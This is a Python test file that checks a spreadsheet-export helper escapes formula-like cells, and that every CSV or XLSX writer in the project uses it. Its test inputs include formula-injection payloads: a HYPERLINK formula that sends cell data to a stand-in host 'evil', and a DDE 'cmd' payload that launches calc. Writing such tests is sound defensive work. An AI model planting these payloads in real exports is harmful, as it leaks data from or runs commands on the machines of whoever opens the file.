"""fieldapp.spreadsheet: cells a person opens in a spreadsheet never run as formulas (issue 10
item 10), and every CSV or XLSX the server writes either uses it or says why not."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from fieldapp.spreadsheet import neutral_row, neutralise

ROOT = Path(__file__).resolve().parents[1]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil/?x="&A1,"Open")', '\'=HYPERLINK("http://evil/?x="&A1,"Open")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+7 701 123 45 67", "'+7 701 123 45 67"),  # a phone number Excel would try to compute
        ("-", "'-"),
        ("-5", "-5"),
        ("+3.25", "+3.25"),
        ("-1e3", "-1e3"),
        ("-.5", "-.5"),
        ("Amina", "Amina"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (3.5, 3.5),
        (None, None),
    ],
)
def test_neutralise(value: object, expected: object) -> None:
    assert neutralise(value) == expected


def test_a_neutralised_csv_reads_back_with_the_apostrophe_only_where_needed() -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerow(neutral_row(["=1+1", "-4", "ok", 7]))
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'=1+1", "-4", "ok", "7"]


#: modules that write CSV or XLSX without neutralising, and why (anything else must use
#: fieldapp.spreadsheet)
NOT_FOR_PEOPLE = {
    # read by ODK Collect and ODK Web Forms, which take cells literally: see the comment there
    "fieldapp/cases/caselists.py",
    # the same case-list CSV of test cases, for a try's Collect or Web Forms (same reason)
    "fieldapp/sandbox/services.py",
}
_WRITERS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|xlsxwriter")


def test_every_spreadsheet_writer_neutralises_or_is_listed() -> None:
    writers = {
        str(path.relative_to(ROOT))
        for path in (ROOT / "fieldapp").rglob("*.py")
        if _WRITERS.search(path.read_text(encoding="utf-8"))
    }
    unguarded = {
        name
        for name in writers - NOT_FOR_PEOPLE
        if "fieldapp.spreadsheet" not in (ROOT / name).read_text(encoding="utf-8")
    }
    assert unguarded == set()
    assert NOT_FOR_PEOPLE <= writers  # the list stays true
